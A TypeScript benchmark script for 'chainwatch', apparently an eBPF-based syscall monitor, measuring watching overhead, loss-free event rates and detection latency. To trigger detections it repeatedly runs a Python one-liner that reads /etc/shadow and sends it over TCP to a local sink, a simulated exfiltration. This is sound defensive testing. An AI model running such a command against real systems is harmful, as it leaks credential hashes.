import { execFile, spawn } from 'node:child_process';
import { mkdirSync, rmdirSync, statSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { LiveHarness, ofKind } from '../src/testing/live-harness.js';
import { freePort } from '../src/testing/rsyslog.js';
import { probeTracepoints, withEmptyPrograms } from './probe-floor.js';
import { ownBpftrace, probeCostAround, withBpfStats, withDiscardingProbe, type ProbeCost } from './probe-cost.js';
import { cgroupV2Root } from '../src/source/cgroups.js';

/**
 * `npm run bench:live` (root, real kernel): overhead of watching on two
 * workloads, and the highest event rate the probes sustain without loss.
 * Each workload times itself (ns, inside the watched cgroup); medians of 3.
 */
const REPS = Number(process.env.BENCH_REPS ?? 5);
const median = (xs: number[]): number => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)]!;
/** Wall ns, then the CPU time (user + sys, ms) of the workload's processes: what watching costs the workload itself. */
const timed = (cmd: string): string => `s=$(date +%s%N); ${cmd}; e=$(date +%s%N); echo $((e-s)); times`;
interface Timing {
  wallNs: number;
  cpuMs: number;
}
function parseTimed(out: string): Timing {
  const [wall, , children] = out.trim().split('\n');
  const ms = (t: string): number => {
    const m = /^(\d+)m([\d.]+)s$/.exec(t);
    if (!m) throw new Error(`unexpected times output: ${out}`);
    return (Number(m[1]) * 60 + Number(m[2])) * 1000;
  };
  const [user, sys] = children!.trim().split(/\s+/);
  return { wallNs: Number(wall), cpuMs: ms(user!) + ms(sys!) };
}

/** A TCP sink in its own process (socat to /dev/null): it neither keeps the data nor waits on this process' event loop. */
async function socatSink(): Promise<{ port: number; close: () => Promise<void> }> {
  const port = await freePort();
  const child = spawn('socat', ['-u', `TCP-LISTEN:${port},bind=127.0.0.2,fork,reuseaddr`, '/dev/null'], { stdio: 'ignore' });
  for (let i = 0; i < 50; i++) {
    const up = await new Promise<boolean>((r) => {
      const c = connect(port, '127.0.0.2', () => (c.destroy(), r(true))).on('error', () => r(false));
    });
    if (up) break;
    await new Promise((r) => setTimeout(r, 100));
  }
  return { port, close: async () => void (child.kill(), await new Promise((r) => child.once('exit', r))) };
}

async function main(): Promise<void> {
  const sink = await socatSink();
  const root = process.cwd();
  const workloads: Record<string, string> = {
    'dd bs=1 count=1000000 (syscall-heavy)': 'dd if=/dev/zero of=/dev/null bs=1 count=1000000 status=none',
    'tar node_modules | loopback TCP sink (realistic)': `tar -cf - -C ${root} node_modules > /dev/tcp/127.0.0.2/${sink.port}`,
  };
  const runAll = async (): Promise<Record<string, Timing[]>> => {
    const out: Record<string, Timing[]> = {};
    for (const [name, cmd] of Object.entries(workloads)) {
      out[name] = [];
      // async: this process keeps its event loop free while the workload runs
      for (let i = 0; i < REPS; i++) out[name].push(parseTimed((await promisify(execFile)('/bin/bash', ['-c', timed(cmd)], { encoding: 'utf8' })).stdout));
    }
    return out;
  };
  const plain = await runAll();
  // the floor: bpftrace holding programs that do nothing: on the probe's tracepoints, on the four tar needs, on one, and on the 32-bit watch's
  const all = probeTracepoints();
  const four = ['openat', 'read', 'write', 'close'].map((s) => `tracepoint:syscalls:sys_exit_${s}`);
  const floors: [string, Record<string, Timing[]>][] = [
    [`empty programs on all ${all.length} tracepoints of the probe`, await withEmptyPrograms(all, runAll)],
    ['empty programs on 4 syscall exits (openat, read, write, close)', await withEmptyPrograms(four, runAll)],
    // any one syscall tracepoint puts every syscall of every task on the kernel's traced path
    ['an empty program on 1 syscall exit (openat)', await withEmptyPrograms([four[0]!], runAll)],
    // the only way to see 32-bit syscalls without kprobes: a program on every syscall of the host
    ['an empty program on raw_syscalls:sys_enter alone (what seeing 32-bit syscalls needs)', await withEmptyPrograms(['tracepoint:raw_syscalls:sys_enter'], runAll)],
  ];
  const pct = (a: number, b: number): string => `${b >= a ? '+' : ''}${(((b - a) / a) * 100).toFixed(1)}%`;
  console.log('floor: the same workloads while bpftrace holds empty programs (median of %d, ms):', REPS);
  const compare = (what: string, a: Timing[], b: Timing[]): string => {
    const [wa, wb] = [median(a.map((t) => t.wallNs)) / 1e6, median(b.map((t) => t.wallNs)) / 1e6];
    const [ca, cb] = [median(a.map((t) => t.cpuMs)), median(b.map((t) => t.cpuMs))];
    return `wall: unwatched ${wa.toFixed(0)} ms, ${what} ${wb.toFixed(0)} ms, ${pct(wa, wb)}; CPU of the workload: ${ca.toFixed(0)} → ${cb.toFixed(0)} ms, ${pct(ca, cb)}`;
  };
  for (const [floor, t] of floors) {
    for (const name of Object.keys(workloads)) console.log(`  ${floor}: ${name}: ${compare('with empty programs', plain[name]!, t[name]!)}`);
  }
  // the probe alone: chainwatch's real probe on a cgroup, its records read and thrown away (no pipeline)
  const cgRoot = cgroupV2Root();
  const bare = `/chainwatch-bench-probe-${process.pid}`;
  mkdirSync(join(cgRoot, bare));
  const inCgroup = (cmd: string): string => `echo $$ > ${join(cgRoot, bare, 'cgroup.procs')}; ${cmd}`;
  const probeOnly: Record<string, { t: Timing[]; cost: ProbeCost; lines: number; consumerMs: number }> = {};
  try {
    for (const [name, cmd] of Object.entries(workloads)) {
      const r = await withBpfStats(() =>
        withDiscardingProbe({ path: bare, id: Number(statSync(join(cgRoot, bare)).ino) }, async () => {
          const t: Timing[] = [];
          for (let i = 0; i < REPS; i++) t.push(parseTimed((await promisify(execFile)('/bin/bash', ['-c', inCgroup(timed(cmd))], { encoding: 'utf8' })).stdout));
          return t;
        }),
      );
      probeOnly[name] = { t: r.result, cost: r.cost, lines: r.lines, consumerMs: r.consumerMs };
    }
  } finally {
    rmdirSync(join(cgRoot, bare));
  }
  const perRun = (ms: number): string => `${(ms / REPS).toFixed(0)} ms`;
  console.log('the probe alone, its records discarded (median of %d):', REPS);
  for (const [name, r] of Object.entries(probeOnly)) {
    console.log(`  ${name}: ${compare('probe only', plain[name]!, r.t)}`);
    console.log(
      `    per run: BPF programs in the kernel ${perRun(r.cost.kernelMs)} (${Math.round(r.cost.programRuns / REPS)} runs), bpftrace ${perRun(r.cost.bpftraceMs)}, ` +
        `${Math.round(r.lines / REPS)} records, reading them ${perRun(r.consumerMs)}`,
    );
  }
  const h = new LiveHarness('bench');
  await h.start();
  const watched: Record<string, { t: Timing[]; cost: ProbeCost; chainwatchMs: number }> = {};
  let n = 0;
  const bpftrace = ownBpftrace();
  if (bpftrace === undefined) throw new Error('the live session runs no bpftrace child of this process');
  for (const [name, cmd] of Object.entries(workloads)) {
    const cpu0 = process.cpuUsage();
    const { result, cost } = await withBpfStats(() =>
      probeCostAround(bpftrace, async () => {
        const t: Timing[] = [];
        for (let i = 0; i < REPS; i++) t.push(parseTimed((await h.run(`w${n++}`, timed(cmd))).stdout));
        return t;
      }),
    );
    const cpu = process.cpuUsage(cpu0);
    watched[name] = { t: result, cost, chainwatchMs: (cpu.user + cpu.system) / 1000 };
  }
  console.log('slowdown caused by watching (median of %d):', REPS);
  for (const [name, w] of Object.entries(watched)) {
    console.log(`  ${name}: ${compare('watched', plain[name]!, w.t)}`);
    // this process is chainwatch here (the live session runs in it), plus the harness' waits between runs
    console.log(`    per run: BPF programs in the kernel ${perRun(w.cost.kernelMs)}, bpftrace ${perRun(w.cost.bpftraceMs)}, chainwatch ${perRun(w.chainwatchMs)}`);
  }
  // detection latency: the transmit syscall's kernel timestamp → the finding leaving the pipeline
  const before = h.findings.length;
  for (let i = 0; i < 20; i++) {
    await h.run(`exfil${i}`, `python3 -c 'import socket; d=open("/etc/shadow","rb").read(); s=socket.create_connection(("127.0.0.2",${sink.port})); s.sendall(d); s.close()'`);
  }
  const exfil = h.findings.length - before;
  // zero-loss rate: open+close pairs (two records each, never coalesced) at a fixed rate for 3 s
  console.log('records/s sustained (open+close pairs for 3 s), loss per step:');
  let best = 0;
  for (const rate of [2000, 5000, 10000, 20000, 40000, 80000]) {
    const before = ofKind(h.events, 'loss').reduce((s, l) => s + l.events, 0);
    const r = await h.run(
      `rate${rate}`,
      `python3 -c '
import os, time
rate, dur = ${rate / 2}, 3.0
t0 = time.monotonic(); done = 0
while True:
    el = time.monotonic() - t0
    if el >= dur: break
    due = int(el * rate)
    while done < due:
        os.close(os.open("/dev/null", os.O_RDONLY)); done += 1
    time.sleep(0.001)
print(done)
'`,
      {},
      // an overloaded step may lose the script's own exit event (the loss is reported and ends the climb)
      { waitForExitEvent: 'unless-lost' },
    );
    const lost = ofKind(h.events, 'loss').reduce((s, l) => s + l.events, 0) - before;
    const pairs = Number(r.stdout.trim());
    const seen = ofKind(r.events, 'file.open').filter((e) => e.path === '/dev/null').length;
    const achieved = (pairs * 2) / 3;
    console.log(`  target ${rate}/s: achieved ${achieved.toFixed(0)}/s, opens seen ${seen}/${pairs}, lost ${lost}`);
    if (lost === 0 && seen >= pairs) best = Math.max(best, achieved);
    else break;
  }
  console.log(`highest rate with zero loss: ${best.toFixed(0)} records/s`);
  const summary = await h.close();
  h.cleanup();
  await sink.close();
  const lat = [...summary.detectionLatencyMs].sort((a, b) => a - b);
  const q = (p: number): number => lat[Math.min(lat.length - 1, Math.floor(p * lat.length))]!;
  console.log(`detection latency over ${lat.length} findings (${exfil} from 20 exfiltrations): p50 ${q(0.5).toFixed(1)} ms, p99 ${q(0.99).toFixed(1)} ms, max ${lat.at(-1)!.toFixed(1)} ms`);
  console.log(`session: ${summary.events} events, ${summary.lostEvents} lost in total, attach ${summary.attachMs} ms, stop ${summary.stopMs} ms (${summary.probeStop})`);
}

await main();
